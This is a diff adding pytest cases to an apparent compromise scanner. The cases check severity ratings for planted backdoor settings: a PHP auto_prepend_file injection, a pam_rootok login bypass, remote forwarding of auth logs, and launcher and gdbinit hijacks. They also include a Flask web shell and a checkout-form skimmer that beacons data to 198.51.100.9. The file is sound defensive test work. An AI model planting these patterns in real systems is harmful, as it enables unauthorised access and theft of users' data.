@@ -289,3 +289,37 @@ def test_on_a_host_with_rpm_a_program_that_no_package_names_is_told_and_a_settin
         },
     }
     assert loud(tmp_path, planted) == {"/usr/sbin/netmon": "medium", "/etc/cron.d/a": "medium"}
+
+
+@pytest.mark.parametrize(
+    ("path", "text", "severity"),
+    [
+        ("/etc/nginx/snippets/php.conf", 'fastcgi_param PHP_VALUE "auto_prepend_file=/srv/x.txt";', "high"),
+        ("/etc/pam.d/login", "auth sufficient pam_rootok.so", "high"),
+        ("/etc/apt/apt.conf.d/80proxy", 'Acquire::http::Proxy "http://198.51.100.9:3128";', "medium"),
+        ("/etc/rsyslog.d/00-send.conf", "auth,authpriv.* @198.51.100.9:514", "low"),
+        ("/root/.gdbinit", "shell /root/.config/.g", "medium"),
+        ("/home/anna/.local/share/applications/firefox.desktop", "Exec=/home/anna/.cache/ff %u", "medium"),
+        ("/etc/pam.d/su", "auth sufficient pam_rootok.so", "low"),
+        ("/etc/apt/apt.conf.d/81proxy", 'Acquire::http::Proxy "http://10.0.0.9:3128";', None),
+        ("/etc/rsyslog.d/01-send.conf", "*.* @@logs.example.com:514", None),
+        ("/home/anna/.local/share/applications/ide.desktop", "Exec=/home/anna/.local/share/JetBrains/ide %u", None),
+    ],
+)
+def test_settings_of_programs_that_people_use_count_by_what_they_do(
+    tmp_path: Path, path: str, text: str, severity: str | None
+) -> None:
+    artifact = "start-files" if path.startswith(("/root", "/home")) else "configuration"
+    found = loud(tmp_path, {"configuration": {}, artifact: {path: f"{text}\n"}})
+    assert found == ({path: severity} if severity else {})
+
+
+def test_an_application_or_a_script_that_gives_away_what_a_visitor_sends_is_told() -> None:
+    flask = b"import os\ndef v(request):\n    return os.popen(request.args.get('c')).read()\n"
+    assert [sign.weight for sign in signs_of_script("views.py", flask)] == [3]
+    assert not list(signs_of_script("views.py", b"def v(request):\n    return find(request.args.get('c'))\n"))
+    thief = (
+        b"document.forms[0].addEventListener('submit', function () { navigator.sendBeacon('//198.51.100.9/c', x); });"
+    )
+    assert [sign.weight for sign in signs_of_script("cart.js", thief)] == [2]
+    assert not list(signs_of_script("cart.js", thief.replace(b"//198.51.100.9", b"//shop.example.com")))
